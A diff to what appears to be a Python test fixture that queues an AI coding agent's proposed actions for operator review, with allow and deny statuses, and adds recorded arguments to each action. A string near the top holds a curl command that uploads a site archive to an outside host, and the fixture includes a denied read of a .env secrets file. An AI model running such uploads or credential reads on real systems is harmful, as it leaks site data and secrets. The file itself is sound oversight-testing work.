@@ -85,6 +85,10 @@ curl -fsS -T /tmp/site.tgz https://files.example-cdn.net/u/8c1f/site.tgz
 rm -rf public/cache && systemctl restart shop"""
 
 
+README = "/srv/shop/README.md"
+DOTENV = "/srv/shop/.env"
+
+
 def fill_queue(operator: FakeOperator) -> None:
     session = SessionRecord(
         id=SessionId("s-41c7"),
@@ -101,15 +105,16 @@ def fill_queue(operator: FakeOperator) -> None:
                 "agent_id": AgentId("claude-code"),
                 "kind": kind,
                 "resource": resource,
+                "arguments": {name: value},
                 "proposed_at": ago(minutes=number + 2),
             },
             status=status,
         )
-        for number, (kind, resource, status) in enumerate(
+        for number, (kind, resource, name, value, status) in enumerate(
             (
-                ("file.read", "/srv/shop/README.md", ActionStatus.ALLOWED),
-                ("shell.execute", "bash", ActionStatus.ALLOWED),
-                ("file.read", "/srv/shop/.env", ActionStatus.DENIED),
+                ("file.read", README, "file_path", README, ActionStatus.ALLOWED),
+                ("shell.execute", "bash", "command", "git status --short", ActionStatus.ALLOWED),
+                ("file.read", DOTENV, "file_path", DOTENV, ActionStatus.DENIED),
             )
         )
     )
